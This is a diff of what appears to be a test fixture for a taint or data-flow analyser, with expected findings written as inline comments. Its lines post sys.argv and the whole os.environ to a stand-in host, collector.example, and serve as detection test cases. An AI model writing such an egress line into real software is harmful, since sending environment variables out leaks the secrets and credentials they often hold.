@@ -95,7 +95,7 @@ class Keeper:
 def of_modules():
     requests.post("https://collector.example/t1", data=getattr(sys, "argv", None))  #~ source(INPUT) t1, sink(egress.http) t1, finding(traced) t1
     requests.post("https://collector.example/t2", data=getattr(os, "environ", {}))  #~ source(ENVIRONMENT) t2, sink(egress.http) t2, finding(traced) t2
-    requests.post("https://collector.example/t4", data=getattr(sys, "version", None))  #~ ok
+    requests.post("https://collector.example/t4", data=getattr(sys, "byteorder", None))  #~ ok
 
 
 def of_objects(keeper: Keeper):
